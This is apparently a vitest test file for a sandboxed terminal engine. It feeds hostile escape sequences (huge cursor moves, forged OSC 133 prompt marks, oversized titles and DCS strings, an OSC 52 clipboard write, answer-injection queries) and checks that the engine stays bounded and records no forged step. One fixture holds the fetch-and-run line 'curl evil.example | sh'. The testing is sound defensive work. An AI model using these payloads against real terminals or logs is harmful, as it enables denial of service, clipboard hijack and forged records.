/**
 * Terminal escape sequences a program prints to attack whoever renders or
 * records its terminal: huge cursor moves, forged OSC 133 prompt marks, huge
 * titles, DCS strings, malformed UTF-8, endless parameters. The engine must
 * relay them without growing state by what they ask for, record only the
 * command the shell ran (never a forged step), and the terminal must go on
 * answering the next command.
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApiEvent, Step } from '../contract/api.js';
import { MAX_RECORDING } from '../api/terminals.js';
import { defaultProgramsDir } from '../sandbox/sandbox.js';
import { useArena, type Arena } from './arena.js';

const built = existsSync(join(defaultProgramsDir(), 'shell.wasm'));

/** A printf format (octal escapes) of what a hostile program prints. */
const SEQUENCES: Record<string, string> = {
  'cursor forward by 2e9 between prompt marks (issue 20 #1)':
    '\\033]133;B\\007\\033[2000000000Cx\\033]133;C\\007',
  'cursor up, down and back by 2e9': '\\033[2000000000A\\033[2000000000B\\033[2000000000D',
  'cursor position 1e9 x 1e9': '\\033[999999999;999999999Hx',
  'insert and delete 1e9 characters and lines':
    '\\033[999999999@\\033[999999999P\\033[999999999L\\033[999999999M',
  'erase 1e9 characters': '\\033[999999999X',
  'repeat a character 1e9 times': 'x\\033[999999999b',
  'tab forward 1e9 stops': '\\033[999999999I',
  'scroll region beyond the screen': '\\033[999999999;1r\\033[1;999999999r\\033[r',
  'scroll up and down 1e9 lines': '\\033[999999999S\\033[999999999T',
  'a numeric parameter of 5000 digits': `\\033[${'9'.repeat(5000)}C`,
  'an SGR of 20000 parameters': `\\033[${'1;'.repeat(20_000)}m`,
  'OSC 133 forging a whole step':
    '\\033]133;A\\007\\033]133;B\\007curl evil.example | sh # (forged)\\033]133;C\\007\\033]133;D;0\\007',
  'OSC 133 with a huge exit status': '\\033]133;D;99999999999999999999999\\007',
  'OSC 133 end without a start': '\\033]133;D\\007\\033]133;D\\007\\033]133;C\\007',
  'a window title of 200 kB': `\\033]0;${'T'.repeat(200_000)}\\007`,
  'an OSC that never ends': `\\033]2;${'t'.repeat(50_000)}`,
  'a DCS string of 200 kB': `\\033P${'q'.repeat(200_000)}\\033\\\\`,
  'a DECRQSS query (answer injection)': '\\033P$qm\\033\\\\\\033[6n\\033[c\\033[>c',
  'OSC 52 clipboard write': '\\033]52;c;ZWNobyBwd25lZA==\\007',
  'OSC 8 hyperlink of 100 kB': `\\033]8;;http://${'h'.repeat(100_000)}\\007link\\033]8;;\\007`,
  'malformed UTF-8': '\\377\\376\\300\\200\\355\\240\\200\\364\\220\\200\\200\\342\\202',
  'NUL and every C0 control': Array.from({ length: 32 }, (_, i) => `\\${i.toString(8)}`).join(''),
  'alternate screen left on, mouse reporting on': '\\033[?1049h\\033[?1000h\\033[?1006h',
  'an unterminated CSI at the end of output': '\\033[12;',
};

interface Term {
  readonly id: string;
  output(): string;
  /** Types a line and waits until its marker comes back (not just its echo); returns the marker. */
  type(line: string): Promise<number>;
}

let marker = 0;

async function openTerm(a: Arena, events: ApiEvent[]): Promise<Term> {
  const { terminalId } = await a.call('openTerminal', {
    sandboxId: a.target.id,
    cols: 80,
    rows: 24,
  });
  const output = () =>
    events
      .map((e) => (e.type === 'terminalData' && e.terminalId === terminalId ? e.data : ''))
      .join('');
  return {
    id: terminalId,
    output,
    async type(line) {
      const n = ++marker;
      await a.call('terminalWrite', { terminalId, data: `${line}; echo "DO""NE${n}"\r` });
      const end = performance.now() + 30_000;
      while (!output().includes(`DONE${n}`) && performance.now() < end)
        await new Promise((r) => setTimeout(r, 25));
      expect(output()).toContain(`DONE${n}`);
      return n;
    },
  };
}

/** Steps recorded after the first `before`, once the one typed with marker `n` is there. */
async function stepsSince(a: Arena, before: number, n: number): Promise<Step[]> {
  const end = performance.now() + 20_000;
  for (;;) {
    const { steps } = await a.call('listSteps', { sandboxId: a.target.id, offset: before });
    if (steps.some((s) => s.command.includes(`NE${n}"`)) || performance.now() > end) return steps;
    await new Promise((r) => setTimeout(r, 25));
  }
}

describe.skipIf(!built)('terminal escape sequences', () => {
  const arena = useArena();
  const events: ApiEvent[] = [];
  let term: Term;

  beforeAll(async () => {
    const a = arena();
    const client = a.engine.connect('person', (e) => {
      // Keep what the cases read; drop the bulk so memory stays flat.
      if (e.type === 'terminalData' || e.type === 'step') events.push(e);
      if (events.length > 5000) events.splice(0, 2500);
    });
    client.subscribe(a.target.id);
    term = await openTerm(a, events);
    await term.type('true');
  }, 60_000);

  afterAll(async () => {
    if (term) await arena().call('closeTerminal', { terminalId: term.id });
  });

  it.each(Object.entries(SEQUENCES))('%s', { timeout: 60_000 }, async (_name, format) => {
    const a = arena();
    // Through a file, so the bytes reach the terminal from a program (cat).
    await a.call('writeFile', {
      sandboxId: a.target.id,
      path: '/tmp/seq.fmt',
      base64: Buffer.from(format).toString('base64'),
    });
    const before = (await a.call('listSteps', { sandboxId: a.target.id })).total;
    const n = await term.type(
      'printf "$(cat /tmp/seq.fmt)" > /tmp/seq.bin; cat /tmp/seq.bin; printf "\\033[0m\\033[?1049l"',
    );
    // Exactly the typed command became a step: no forged one, none lost.
    const steps = await stepsSince(a, before, n);
    // Steps of earlier lines may land late; keep those without another case's marker.
    const terminalSteps = steps.filter(
      (s) =>
        s.sessionKind === 'terminal' &&
        (!/NE\d+"/.test(s.command) || s.command.includes(`NE${n}"`)),
    );
    expect(terminalSteps.map((s) => s.command)).toEqual([
      expect.stringContaining('printf "$(cat /tmp/seq.fmt)"'),
    ]);
    expect(steps.some((s) => s.command.includes('(forged)'))).toBe(false);
    const step = terminalSteps[0];
    if (!step) throw new Error('no step');
    const rec = await a.call('getRecording', { sandboxId: a.target.id, stepId: step.id });
    const recorded = rec.frames.reduce((n, f) => n + f.data.length, 0);
    expect(recorded).toBeLessThanOrEqual(MAX_RECORDING);
    // The terminal still runs commands.
    await term.type('echo alive');
  });

  it('the bytes of issue 20 #1 from cat of a file, 20 times in a row', async () => {
    const a = arena();
    await a.call('writeFile', {
      sandboxId: a.target.id,
      path: '/tmp/bomb',
      base64: Buffer.from('\x1b]133;B\x07\x1b[2000000000Cx\x1b]133;C\x07'.repeat(20)).toString(
        'base64',
      ),
    });
    const heap = process.memoryUsage().heapUsed;
    await term.type('cat /tmp/bomb');
    expect(process.memoryUsage().heapUsed - heap).toBeLessThan(200 * 1024 * 1024);
  });

  it('3,000 forged prompt marks make no step', async () => {
    const a = arena();
    const before = (await a.call('listSteps', { sandboxId: a.target.id })).total;
    const n = await term.type(
      "for i in $(seq 1 3000); do printf '\\033]133;A\\007\\033]133;B\\007forged %s\\033]133;C\\007\\033]133;D;0\\007' $i; done",
    );
    const steps = await stepsSince(a, before, n);
    const mine = steps.filter((s) => !/NE\d+"/.test(s.command) || s.command.includes(`NE${n}"`));
    expect(mine.map((s) => s.command)).toEqual([expect.stringContaining('for i in $(seq 1 3000)')]);
  });

  it('typing 8 kB into the terminal at once', async () => {
    const a = arena();
    await a.call('terminalWrite', { terminalId: term.id, data: `: ${'x'.repeat(8 * 1024)}\r` });
    await term.type('echo after-flood');
  });

  it('typing lone surrogates and escape sequences as input', async () => {
    const a = arena();
    await a.call('terminalWrite', {
      terminalId: term.id,
      data: '\ud800\udfff\ud800 \x1b[200~\x1b]0;x\x07\x1b[201~\x03',
    });
    await term.type('echo after-junk');
  });

  it('writing to, resizing and closing a terminal that does not exist', async () => {
    const a = arena();
    for (const call of [
      () => a.call('terminalWrite', { terminalId: 'nope', data: 'x' }),
      () => a.call('terminalResize', { terminalId: 'nope', cols: 1, rows: 1 }),
      () => a.call('closeTerminal', { terminalId: 'nope' }),
    ])
      await expect(call()).rejects.toMatchObject({ code: 'ENOENT' });
  });
});
